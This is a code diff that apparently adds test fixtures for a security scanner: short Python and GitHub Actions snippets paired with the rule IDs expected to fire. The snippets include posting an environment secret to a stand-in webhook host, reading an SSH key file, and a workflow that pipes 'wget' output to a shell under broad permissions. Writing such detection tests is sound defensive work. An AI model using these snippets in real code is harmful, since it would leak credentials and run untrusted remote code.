@@ -136,8 +136,18 @@ CODE = {
         ("import pickle\npickle.loads(b'')\nsubprocess.call(x)", [(2, "SI-PY-005"), (3, "SI-PY-002")]),
         ("def broken(", []),
     ],
+    "behavior": [
+        ("import os, requests\nrequests.post('https://h.example/webhook', data=os.environ['K'])", [(2, "SI-PY-020"), (2, "SI-PY-021"), (2, "SI-PY-025"), (2, "SI-PY-026")]),
+        ("open('/home/u/.ssh/id')\nopen('x', 'w')\nos.remove('x')", [(1, "SI-FS-001"), (2, "SI-PY-023"), (3, "SI-PY-024")]),
+        ("import socket\nsocket.create_connection(('h', 1))\nx = 'open(1)'", [(2, "SI-PY-021")]),
+    ],
+    "github-actions": [
+        ("on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: other/act@v1\n      - run: wget x | sh", [(1, "SI-GHA-001"), (5, "SI-GHA-003"), (5, "SI-GHA-004"), (6, "SI-GHA-005"), (6, "SI-GHA-009")]),
+        ("on: push\npermissions: write-all\nenv:\n  A: ${{ secrets.B }}", [(2, "SI-GHA-002"), (4, "SI-GHA-007")]),
+        ("on: [push", []),
+    ],
 }
-SIGN = {"powershell": "# ", "javascript": "// ", "python": "# "}
+SIGN = {"powershell": "# ", "javascript": "// ", "python": "# ", "behavior": "# ", "github-actions": "# "}
 
 
 def code_files(spark: SparkSession, sf_dir: str, language: str) -> DataFrame:
@@ -145,7 +155,7 @@ def code_files(spark: SparkSession, sf_dir: str, language: str) -> DataFrame:
     i = F.col("doc_id")
     comment = F.regexp_replace("text", r"(?m)^", SIGN[language])
     content = F.concat(comment, F.lit("\n"), pick([c for c, _ in CODE[language]], i))
-    return read(spark, sf_dir, "documents").select(F.col("source").alias("target_id"), F.concat(F.lit("code/"), i.cast("string")).alias("path"), F.lit(language).alias("language"), content.alias("content"))
+    return read(spark, sf_dir, "documents").select(F.col("source").alias("target_id"), F.concat(F.lit("code/"), i.cast("string")).alias("path"), F.lit("python" if language == "behavior" else language).alias("language"), content.alias("content"))
 
 
 def code_sql(language: str) -> str:
